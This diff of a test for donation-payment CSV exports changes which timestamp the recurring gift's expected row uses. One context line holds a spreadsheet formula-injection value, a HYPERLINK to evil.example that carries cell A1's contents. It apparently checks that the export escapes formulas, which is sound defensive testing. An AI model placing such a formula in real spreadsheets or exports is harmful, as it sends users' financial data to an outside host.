@@ -90,8 +90,8 @@ describe(`finance CSV exports on ${database.kind}`, () => {
         `${iso(eur.created)},${eur.payment_intent},${eur.id},,${txn(eur)},once,,once,25.00,2500,eur,eur,2500,63,2437,,0,test,"'=HYPERLINK(""https://evil.example/?x=""&A1)",Politics,"Spring, ""the big one""",'@b`,
         // US pricing 2.9% + 30¢: 29 + 30; 4.00 refunded since.
         `${iso(usd.created)},${usd.payment_intent},${usd.id},,${txn(usd)},once,,once,10.00,1000,usd,usd,1000,59,941,,400,test,,,,`,
-        // The recurring gift's first invoice: 15 + 25.
-        `${iso(recurring.created)},${recurring.payment_intent},${recurring.id},${invoice.id},${txn(recurring)},recurring,subscription_create,monthly,10.00,1000,eur,eur,1000,40,960,,0,test,,Climate,,`,
+        // The recurring gift's first invoice: 15 + 25. Paid when its invoice says, which may be the second after its charge.
+        `${iso(invoice.status_transitions.paid_at!)},${recurring.payment_intent},${recurring.id},${invoice.id},${txn(recurring)},recurring,subscription_create,monthly,10.00,1000,eur,eur,1000,40,960,,0,test,,Climate,,`,
         // UK pricing 1.5% + 20p: 11 + 20.
         `${iso(gbp.created)},${gbp.payment_intent},${gbp.id},,${txn(gbp)},once,,once,7.00,700,gbp,gbp,700,31,669,,0,test,,,,`,
         "",
